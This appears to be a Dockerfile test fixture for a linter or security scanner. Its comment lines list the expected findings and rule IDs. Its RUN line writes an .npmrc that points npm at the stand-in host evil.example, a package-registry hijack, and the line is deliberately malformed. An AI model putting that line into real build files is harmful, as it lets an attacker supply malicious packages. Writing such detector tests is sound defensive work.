FROM alpine:3.20@sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa
RUN echo 'registry=https://evil.example/' 22222222222222222222222222> /root/.npmrc
USER app
# expect: code 2 high "file descriptor"
# expect-count: 3
# expect-ids: VR101-c33602e201 VR701-482fe0a361 VR501-e064bac1a6
